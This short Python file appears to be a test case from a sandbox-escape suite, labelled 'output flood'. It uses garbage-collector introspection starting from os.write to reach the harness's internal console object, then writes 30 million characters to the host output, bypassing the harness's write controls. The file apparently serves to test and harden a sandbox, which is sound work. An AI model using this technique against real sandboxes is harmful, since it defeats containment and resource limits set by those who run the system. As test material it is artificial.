# Hands the host one text of tens of megabytes, past all that the harness does to writes.
#
# category = "output flood"
# ending = "output"
# message = "16 MiB at once"
import gc
import os


def reach(name):
    """Searches everything that os.write leads to for a dict with this key: the harness's own names."""
    waiting, seen = [os.write], set()
    while waiting:
        thing = waiting.pop(0)
        if id(thing) not in seen:
            seen.add(id(thing))
            if isinstance(thing, dict) and name in thing:
                return thing[name]
            waiting += gc.get_referents(thing)
    raise LookupError(name)


def attack():
    console = reach("console")
    console.write(console.Channel.OUT, "x" * 30_000_000)
